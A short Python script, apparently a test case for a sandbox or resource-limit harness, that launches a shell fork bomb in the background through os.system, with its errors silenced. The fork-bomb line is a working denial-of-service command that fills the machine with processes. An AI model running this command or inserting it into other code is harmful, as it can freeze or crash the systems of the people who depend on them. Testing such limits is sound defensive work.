# The shell's fork bomb, in the background; the machine would be full of its processes.
# limits: tight
import os
import time

os.system("bomb() { bomb | bomb & }; bomb 2>/dev/null &")
time.sleep(0.3)
